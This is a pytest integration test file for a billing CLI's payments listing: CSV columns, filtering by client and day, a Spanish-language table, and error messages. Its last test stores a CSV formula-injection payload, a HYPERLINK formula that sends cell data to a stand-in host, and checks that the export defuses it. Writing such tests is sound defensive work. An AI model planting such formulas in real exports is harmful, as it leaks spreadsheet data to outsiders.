"""``antena payments list`` as an operator runs it (the real program): every payment with its
invoices, method, reference and the staff member who took it; by client, by day, as the
contract's CSV; a bad date or an unknown client is one line and a non-zero exit."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import getpass
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from antena.core.config import Settings
from antena.core.db.billing_models import Invoice, InvoiceStatus, Payment, PaymentAllocation, PaymentMethod
from antena.core.db.engine import Database
from antena.core.db.models import Client, StaffUser
from tests.helpers import cli, cli_centro, fetch
from tests.integration.test_cli_payments import add_invoice
from tests.integration.test_hostile_cli_csv import antena

HEADER = "id,date,client_id,client,invoices,amount,method,reference,staff"
TZ = ZoneInfo("America/Mexico_City")
CASHIER_DAY = dt.date(2026, 3, 10)


def _ok(*args: str) -> None:
    result = cli(*args)
    assert result.exit_code == 0, (args, result.stdout, result.stderr)


def _taken_by_the_cashier(url: str, client_id: int, number: int) -> None:
    """A payment the cashier Ana Cajera took in chat late on 10 March (already 11 March in UTC)."""

    async def go() -> None:
        db = Database(url)
        try:
            async with db.session() as s:
                staff = (await s.execute(select(StaffUser).where(StaffUser.telegram_id == 1003))).scalar_one()
                invoice = (await s.execute(select(Invoice).where(Invoice.number == number))).scalar_one()
                payment = Payment(
                    client_id=client_id,
                    amount=Decimal("400.00"),
                    method=PaymentMethod.CARD,
                    reference=None,
                    received_at=dt.datetime(2026, 3, 10, 21, 30, tzinfo=TZ),
                    cashier=f"telegram:1003 {staff.name}",
                    staff_id=staff.id,
                    credit_added=Decimal("0.00"),
                )
                s.add(payment)
                await s.flush()
                s.add(
                    PaymentAllocation(payment_id=payment.id, invoice_id=invoice.id, amount=Decimal("400.00"))
                )
                invoice.paid_amount = Decimal("400.00")
                invoice.status = InvoiceStatus.PAID
                await s.commit()
        finally:
            await db.dispose()

    asyncio.run(go())


@pytest.fixture
def paid(cli_env: Settings, threaded_emulator) -> dict[str, int]:  # type: ignore[no-untyped-def]
    """Juan paid two invoices at once by transfer (CLI) and one in cash; Ana's cashier took a card payment."""
    url = cli_env.database_url
    cli_centro(threaded_emulator.port)
    _ok("clients", "add", "--name", "Ana López", "--zone", "Centro", "--router", "RB-Centro", "--plan", "PCQ 15M",
        "--ip", "10.0.0.6")  # fmt: skip
    _ok("staff", "add", "--telegram-id", "1003", "--name", "Ana Cajera", "--role", "cashier")
    ids = dict(fetch(url, select(Client.name, Client.id)))
    juan, ana = ids["Juan Pérez"], ids["Ana López"]
    first, second, third = (add_invoice(url, juan, due=dt.date(2026, month, 1)) for month in (1, 2, 3))
    theirs = add_invoice(url, ana)
    _ok("payment", "add", f"{first},{second}", "800", "--method", "transferencia", "--reference", "SPEI 0042")
    _ok("payment", "add", str(third), "400")
    _taken_by_the_cashier(url, ana, theirs)
    return {"juan": juan, "ana": ana, "first": first, "second": second, "third": third, "theirs": theirs}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_the_contracts_header_and_every_payment(paid: dict[str, int]) -> None:
    done = antena("payments", "list", "--csv")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0] == HEADER
    rows = _rows(done.stdout)
    today = dt.datetime.now(TZ).date().isoformat()
    operator = f"cli:{getpass.getuser()}"
    by_amount = sorted(rows, key=lambda r: r["amount"])
    assert [
        (r["client"], r["invoices"], r["amount"], r["method"], r["reference"], r["staff"], r["date"])
        for r in rows
    ] == [
        ("Ana López", str(paid["theirs"]), "400.00", "tarjeta", "", "Ana Cajera", CASHIER_DAY.isoformat()),
        (
            "Juan Pérez",
            f"{paid['first']};{paid['second']}",
            "800.00",
            "transferencia",
            "SPEI 0042",
            operator,
            today,
        ),
        ("Juan Pérez", str(paid["third"]), "400.00", "efectivo", "", operator, today),
    ]  # fmt: skip  (oldest first)
    assert {r["client_id"] for r in by_amount} == {str(paid["juan"]), str(paid["ana"])}
    assert int(rows[0]["id"]) > int(rows[1]["id"])  # ordered by when it was received, not by id


def test_by_client_and_by_day(paid: dict[str, int]) -> None:
    juan = _rows(antena("payments", "list", "--client", "juan", "--csv").stdout)
    assert [r["amount"] for r in juan] == ["800.00", "400.00"]
    day = _rows(antena("payments", "list", "--date", CASHIER_DAY.isoformat(), "--csv").stdout)
    assert [r["staff"] for r in day] == ["Ana Cajera"]  # 21:30 local, though 03:30 the next day in UTC
    after = antena("payments", "list", "--date", (CASHIER_DAY + dt.timedelta(days=1)).isoformat(), "--csv")
    assert after.stdout.strip() == HEADER
    both = _rows(
        antena("payments", "list", "--client", "#" + str(paid["ana"]), "--date", "2026-03-10", "--csv").stdout
    )
    assert len(both) == 1


def test_the_table_reads_well_in_spanish(paid: dict[str, int]) -> None:
    done = antena("payments", "list", env={"ANTENA_LOCALE": "es"})
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0].split() == [
        "Id",
        "Fecha",
        "Cliente",
        "Facturas",
        "Monto",
        "Método",
        "Referencia",
        "Cobró",
    ]
    ana, transfer, cash = lines[1:4]
    assert "Ana Cajera" in ana and "tarjeta" in ana and "$400.00" in ana and f"#{paid['theirs']}" in ana
    assert (
        "transferencia" in transfer
        and "SPEI 0042" in transfer
        and f"#{paid['first']}, #{paid['second']}" in transfer
    )
    assert "efectivo" in cash
    assert lines[-1] == "Total: $1,600.00"


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--date", "2026-02-30"], "antena: Invalid date 2026-02-30: use YYYY-MM-DD"),
        (["--date", "ayer"], "antena: Invalid date ayer: use YYYY-MM-DD"),
        (["--client", "nadie"], "antena: No client matches “nadie”"),
    ],
)
def test_a_bad_date_or_an_unknown_client_is_one_line(
    paid: dict[str, int], args: list[str], says: str
) -> None:
    done = cli("payments", "list", *args)
    assert done.exit_code == 1 and done.stdout == ""
    assert done.stderr.strip() == says


def test_no_payments_and_formula_names(cli_env: Settings, threaded_emulator) -> None:  # type: ignore[no-untyped-def]
    cli_centro(threaded_emulator.port)
    assert cli("payments", "list").stdout.strip() == "No payments."
    _ok("clients", "add", "--name", '=HYPERLINK("http://x/?"&A1)', "--zone", "Centro", "--router", "RB-Centro",
        "--plan", "PCQ 15M", "--ip", "10.0.0.8")  # fmt: skip
    (hostile,) = fetch(cli_env.database_url, select(Client.id).where(Client.name.startswith("=")))
    _ok("payment", "add", str(add_invoice(cli_env.database_url, hostile[0])), "--reference", "@SUM(A1)")
    (row,) = _rows(cli("payments", "list", "--csv").stdout)
    assert row["client"] == '\'=HYPERLINK("http://x/?"&A1)' and row["reference"] == "'@SUM(A1)"
